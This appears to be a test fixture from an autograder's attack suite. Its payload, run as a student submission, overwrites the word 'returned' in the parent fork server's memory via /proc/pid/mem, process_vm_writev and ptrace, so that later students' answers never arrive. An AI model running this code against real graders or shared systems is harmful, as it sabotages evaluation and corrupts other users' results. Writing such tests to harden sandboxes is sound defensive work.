"""Writes into the fork server's memory what the next student is to find."""

from tests.attacks.attack import Attack
from tests.attacks.pieces import OUTPUT_SIZE_POINTS
from tests.attacks.sources import OUTPUT_SIZE

ATTACK = Attack(
    wants="a fork server in which nobody's answers arrive",
    top="""
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
WORD, OTHER = b"returned", b"returnes"

def by_file(start, size):
    with open(f"/proc/{parent}/mem", "r+b", 0) as memory:
        memory.seek(start)
        content = memory.read(size)
        for at in places(content):
            memory.seek(start + at)
            memory.write(OTHER)

def by_vector(start, size):
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    buffer = ctypes.create_string_buffer(size)
    ours, theirs = Vector(ctypes.addressof(buffer), size), Vector(start, size)
    if libc.process_vm_readv(parent, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    for at in places(buffer.raw):
        word = ctypes.create_string_buffer(OTHER)
        ours, theirs = Vector(ctypes.addressof(word), len(OTHER)), Vector(start + at, len(OTHER))
        libc.process_vm_writev(parent, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)

def by_tracing(start, size):
    if libc.ptrace(16, parent, 0, 0) < 0:
        raise OSError(ctypes.get_errno(), "refused")
    libc.ptrace(17, parent, 0, 0)

def places(content):
    at = content.find(WORD)
    while at >= 0:
        yield at
        at = content.find(WORD, at + 1)

def regions():
    # The fork server's heap is where ours is.
    for line in open("/proc/self/maps"):
        parts = line.split()
        start, end = (int(part, 16) for part in parts[0].split("-"))
        if parts[1].startswith("rw") and end - start < 1 << 25:
            yield start, end - start

try:
    known = list(regions())
except OSError as error:
    print(type(error).__name__)
    known = [(id(WORD) >> 12 << 12, 4096)]
for start, size in known:
    for write in (by_file, by_vector, by_tracing):
        try:
            write(start, size)
        except OSError:
            continue
""",
    solutions={"output_size": OUTPUT_SIZE},
    deserves=OUTPUT_SIZE_POINTS,
)
